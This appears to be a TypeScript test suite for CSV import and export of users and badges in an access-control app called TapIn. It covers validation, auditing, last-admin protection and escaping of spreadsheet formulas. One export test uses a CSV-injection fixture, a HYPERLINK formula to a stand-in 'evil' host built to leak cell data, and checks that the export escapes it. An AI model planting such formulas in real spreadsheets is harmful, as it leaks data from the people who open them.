import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CLI_ACTOR, type Actor } from '../audit/audit.repository.ts';
import { verifyAuditChain } from '../audit/audit-integrity.ts';
import { manualClock } from '../clock.ts';
import { defaultConfig } from '../config.ts';
import { openDatabase, type TapinDb } from '../db/open.ts';
import { createMemoryBus } from '../realtime/event-bus.ts';
import { createServices, type Services } from '../services.ts';
import { escapeFormula, parsePeopleCsv, unescapeFormula } from './people-csv.ts';
import { peopleService, type PeopleService } from './people.service.ts';

let dir: string;
let db: TapinDb;
let services: Services;
let people: PeopleService;
const clock = manualClock();
const ADMIN: Actor = { userId: 1, source: 'admin', clientAddress: '127.0.0.1' };

beforeEach(async () => {
  clock.set(Date.parse('2026-11-28T09:00:00Z'));
  dir = mkdtempSync(join(tmpdir(), 'tapin-people-'));
  db = await openDatabase(join(dir, 'tapin.sqlite'));
  const deps = { db, clock, bus: createMemoryBus(), config: defaultConfig, publicUrl: () => '' };
  services = createServices(deps);
  people = peopleService(deps, { endAccessOf: services.access.endAllOf });
});
afterEach(async () => {
  services.loginSessions.stop();
  await db.destroy();
  rmSync(dir, { recursive: true, force: true });
});

const users = () => db.selectFrom('users').select(['id', 'external_id', 'display_name', 'role', 'disabled_at']).orderBy('id').execute();
const activeBadges = () => db.selectFrom('badges').select(['user_id', 'uid', 'label']).where('revoked_at', 'is', null).orderBy('id').execute();
const auditEvents = async () => (await db.selectFrom('audit_log').select(['event', 'source', 'actor_user_id', 'details']).orderBy('id').execute());

const MIXED = [
  'external_id,name,role,badge_uid,badge_label,disabled',
  '1001,Grace Hopper,admin,04:a1:b2:c3:d4:e5:f6,blue card,false',
  '1001,,,04112233445566,,',
  '1002,"Hopper, Grace",user,,,',
  '1003,Alan Turing,User,04A1B2C3D4E5F6,,',
  '1004,,user,,,',
  '1005,Ada Lovelace,boss,,,',
  '1006,Edsger Dijkstra,,zz:11,,',
  '1001,Grace M. Hopper,,,,',
  ',Nobody,,,,',
  '1007,Barbara Liskov,,,,maybe',
].join('\n');

describe('importing people from CSV', () => {
  it('creates the good rows and refuses each bad one with its line and reason', async () => {
    const report = await people.import(MIXED, 'apply', CLI_ACTOR);
    expect(report).toMatchObject({ mode: 'apply', created: 2, updated: 0, unchanged: 0, badgesEnrolled: 2, notInFile: 0 });
    expect(report.refused).toEqual([
      { line: 5, externalId: '1003', reason: 'badge_uid 04A1B2C3D4E5F6 is already on line 2 for external_id 1001' },
      { line: 6, externalId: '1004', reason: 'name is empty (a new person needs one)' },
      { line: 7, externalId: '1005', reason: 'role "boss" is not one of user, admin' },
      { line: 8, externalId: '1006', reason: expect.stringMatching(/^badge_uid "zz:11" is not a badge UID/) },
      { line: 9, externalId: '1001', reason: 'name "Grace M. Hopper" differs from line 2 ("Grace Hopper") for the same person' },
      { line: 10, externalId: null, reason: 'external_id is empty' },
      { line: 11, externalId: '1007', reason: 'disabled "maybe" is not true or false' },
    ]);
    expect(report.rows.slice(0, 3).map((r) => [r.line, r.outcome, r.changes])).toEqual([
      [2, 'create', ['badge']],
      [3, 'create', ['badge']],
      [4, 'create', []],
    ]);
    expect(await users()).toEqual([
      { id: 1, external_id: '1001', display_name: 'Grace Hopper', role: 'admin', disabled_at: null },
      { id: 2, external_id: '1002', display_name: 'Hopper, Grace', role: 'user', disabled_at: null },
    ]);
    expect(await activeBadges()).toEqual([
      { user_id: 1, uid: '04A1B2C3D4E5F6', label: 'blue card' },
      { user_id: 1, uid: '04112233445566', label: null },
    ]);
  });

  it('changes nothing when the same file is imported again', async () => {
    await people.import(MIXED, 'apply', CLI_ACTOR);
    const before = { users: await users(), badges: await activeBadges(), audit: (await auditEvents()).length };
    const again = await people.import(MIXED, 'apply', CLI_ACTOR);
    expect(again).toMatchObject({ created: 0, updated: 0, unchanged: 2, badgesEnrolled: 0 });
    expect(again.rows.filter((r) => r.outcome !== 'refused').map((r) => r.outcome)).toEqual(['unchanged', 'unchanged', 'unchanged']);
    expect(again.refused).toHaveLength(7);
    expect({ users: await users(), badges: await activeBadges() }).toEqual({ users: before.users, badges: before.badges });
    // Only the summary of the second import.
    expect((await auditEvents()).slice(before.audit).map((e) => e.event)).toEqual(['people.import']);
  });

  it('updates name, role and disabled state and enrolls a new badge, auditing each change as the admin', async () => {
    await services.users.add({ name: 'Root', role: 'admin' });
    await people.import('external_id,name,role,badge_uid\n2001,Mary Jackson,user,04AAAAAAAAAAAA\n2002,Dorothy Vaughan,user,', 'apply', CLI_ACTOR);
    const update = [
      'external_id,name,role,badge_uid,badge_label,disabled',
      '2001,Mary W. Jackson,admin,04aaaaaaaaaaaa,,',
      '2001,,,04BBBBBBBBBBBB,spare,',
      '2002,Dorothy Vaughan,user,,,true',
    ].join('\r\n');
    const preview = await people.import(update, 'preview', ADMIN);
    expect(preview.rows.map((r) => [r.outcome, r.changes, r.userId])).toEqual([
      ['update', ['name', 'role'], 2],
      ['update', ['badge'], 2],
      ['update', ['disabled'], 3],
    ]);
    expect(preview).toMatchObject({ mode: 'preview', created: 0, updated: 2, unchanged: 0, badgesEnrolled: 1, notInFile: 1, refused: [] });

    const applied = await people.import(update, 'apply', ADMIN);
    expect({ ...applied, mode: 'preview' }).toEqual(preview);
    expect(await users()).toEqual([
      expect.objectContaining({ id: 1, external_id: null, display_name: 'Root' }),
      { id: 2, external_id: '2001', display_name: 'Mary W. Jackson', role: 'admin', disabled_at: null },
      { id: 3, external_id: '2002', display_name: 'Dorothy Vaughan', role: 'user', disabled_at: clock.now() },
    ]);
    expect((await activeBadges()).map((b) => [b.user_id, b.uid, b.label])).toEqual([
      [2, '04AAAAAAAAAAAA', null],
      [2, '04BBBBBBBBBBBB', 'spare'],
    ]);
    const audit = (await auditEvents()).slice(-4);
    expect(audit.map((e) => [e.event, e.source, e.actor_user_id])).toEqual([
      ['user.update', 'admin', 1],
      ['badge.enroll', 'admin', 1],
      ['user.disable', 'admin', 1],
      ['people.import', 'admin', 1],
    ]);
    expect(JSON.parse(audit[0]?.details ?? '{}')).toMatchObject({ displayName: 'Mary W. Jackson', role: 'admin', previous: { displayName: 'Mary Jackson', role: 'user' }, via: 'people.import' });
    expect(JSON.parse(audit[3]?.details ?? '{}')).toMatchObject({ created: 0, updated: 2, badgesEnrolled: 1, refused: 0, notInFile: 1, rows: 3 });
    expect(await verifyAuditChain(db)).toMatchObject({ ok: true });
  });

  it('writes nothing in a preview', async () => {
    const report = await people.import(MIXED, 'preview', CLI_ACTOR);
    expect(report).toMatchObject({ mode: 'preview', created: 2, badgesEnrolled: 2 });
    expect(report.refused).toHaveLength(7);
    expect(await users()).toEqual([]);
    expect(await activeBadges()).toEqual([]);
    expect(await auditEvents()).toEqual([]);
  });

  it('refuses a badge enrolled for someone else, naming its holder, and one that was revoked', async () => {
    const grace = await services.users.add({ name: 'Grace Hopper' });
    await db.updateTable('users').set({ external_id: '1001' }).where('id', '=', grace.id).execute();
    await services.badges.enroll({ userId: grace.id, uid: '04A1B2C3D4E5F6' });
    const lost = await services.badges.enroll({ userId: grace.id, uid: '04CCCCCCCCCCCC' });
    await services.badges.revoke(lost.id, 'lost');
    const report = await people.import('external_id,name,badge_uid\n1001,Grace Hopper,04a1b2c3d4e5f6\n3001,Alan Turing,04A1B2C3D4E5F6\n1001,,04CCCCCCCCCCCC', 'apply', CLI_ACTOR);
    expect(report.refused).toEqual([
      { line: 3, externalId: '3001', reason: 'badge_uid 04A1B2C3D4E5F6 is already on line 2' + ' for external_id 1001' },
      { line: 4, externalId: '1001', reason: 'badge_uid 04CCCCCCCCCCCC was revoked; if it was found, enroll it again by hand (tapin badge add)' },
    ]);
    const other = await people.import('external_id,name,badge_uid\n3001,Alan Turing,04A1B2C3D4E5F6', 'apply', CLI_ACTOR);
    expect(other.refused).toEqual([{ line: 2, externalId: '3001', reason: 'badge_uid 04A1B2C3D4E5F6 is already enrolled for Grace Hopper (external_id 1001)' }]);
    expect(other).toMatchObject({ created: 0, notInFile: 1 });
  });

  it('never leaves TapIn without an active administrator', async () => {
    await people.import('external_id,name,role\n1,Grace Hopper,admin\n2,Alan Turing,user', 'apply', CLI_ACTOR);
    const report = await people.import('external_id,name,role,disabled\n1,Grace Hopper,user,\n2,Alan Turing,user,true', 'apply', CLI_ACTOR);
    expect(report.refused).toEqual([{ line: 2, externalId: '1', reason: 'Grace Hopper is the last active administrator; this file would leave TapIn without one' }]);
    expect((await users()).map((u) => [u.role, u.disabled_at === null])).toEqual([
      ['admin', true],
      ['user', false],
    ]);
  });

  it('gives an external id to someone created by hand, through the id column the export writes', async () => {
    const grace = await services.users.add({ name: 'Grace Hopper' });
    const report = await people.import(`id,external_id,name\n${grace.id},1001,\n999,1002,Nobody`, 'apply', CLI_ACTOR);
    expect(report.rows.map((r) => [r.outcome, r.changes ?? r.reason])).toEqual([
      ['update', ['externalId']],
      ['refused', 'no user with id 999'],
    ]);
    expect(await users()).toEqual([{ id: grace.id, external_id: '1001', display_name: 'Grace Hopper', role: 'user', disabled_at: null }]);
  });

  it('reads a BOM, CRLF, quoted commas and line breaks, and reports the line each row starts on', () => {
    const rows = parsePeopleCsv('\uFEFFExternal_ID,name\r\n1,"Hopper, Grace"\r\n\r\n2,"two\r\nlines"\r\n3,\'=1+1\r\n');
    expect(rows).toEqual([
      { line: 2, cells: { external_id: '1', name: 'Hopper, Grace' } },
      { line: 4, cells: { external_id: '2', name: 'two\r\nlines' } },
      { line: 6, cells: { external_id: '3', name: '=1+1' } },
    ]);
  });

  it('refuses a file that is not a people file as a whole', () => {
    expect(() => parsePeopleCsv('')).toThrow(/the file is empty/);
    expect(() => parsePeopleCsv('name,badge\nGrace,04A1B2C3')).toThrow(/unknown column "badge"/);
    expect(() => parsePeopleCsv('name\nGrace')).toThrow(/no external_id column/);
    expect(() => parsePeopleCsv('external_id,name,name\n1,a,b')).toThrow(/names the column "name" twice/);
    expect(() => parsePeopleCsv('external_id,name\n1,"Grace\n')).toThrow(/not a readable CSV file: Quote Not Closed/);
  });

  it('escapes cells a spreadsheet would evaluate, reversibly', () => {
    for (const cell of ['=HYPERLINK("http://x")', '+1', '-2', '@SUM(A1)', '\tx', "'=x", "''+y"]) {
      expect(escapeFormula(cell)).toBe(`'${cell}`);
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    }
    for (const cell of ['Grace Hopper', "O'Brien", "'quoted'", '1001']) {
      expect(escapeFormula(cell)).toBe(cell);
      expect(unescapeFormula(cell)).toBe(cell);
    }
  });
});

describe('exporting people', () => {
  it('writes every user with each active badge, escapes formulas, and imports back unchanged', async () => {
    const grace = await services.users.add({ name: 'Grace Hopper', role: 'admin' });
    await services.badges.enroll({ userId: grace.id, uid: '04A1B2C3D4E5F6', label: 'blue, card' });
    await services.badges.enroll({ userId: grace.id, uid: '04112233445566' });
    const revoked = await services.badges.enroll({ userId: grace.id, uid: '04CCCCCCCCCCCC' });
    await services.badges.revoke(revoked.id);
    const mallory = await services.users.add({ name: '=HYPERLINK("http://evil/?"&A1,"x")' });
    await services.users.disable(mallory.id, CLI_ACTOR);
    await people.import('external_id,name\n-7,Minus Seven', 'apply', CLI_ACTOR);

    const csv = await people.exportCsv();
    expect(csv.split('\n')).toEqual([
      'external_id,name,role,badge_uid,badge_label,disabled,id',
      ',Grace Hopper,admin,04A1B2C3D4E5F6,"blue, card",false,1',
      ',Grace Hopper,admin,04112233445566,,false,1',
      ',"\'=HYPERLINK(""http://evil/?""&A1,""x"")",user,,,true,2',
      "'-7,Minus Seven,user,,,false,3",
      '',
    ]);
    const report = await people.import(csv, 'apply', CLI_ACTOR);
    expect(report).toMatchObject({ created: 0, updated: 0, unchanged: 3, badgesEnrolled: 0, refused: [], notInFile: 0 });
    expect(await people.exportCsv()).toBe(csv);
  });
});
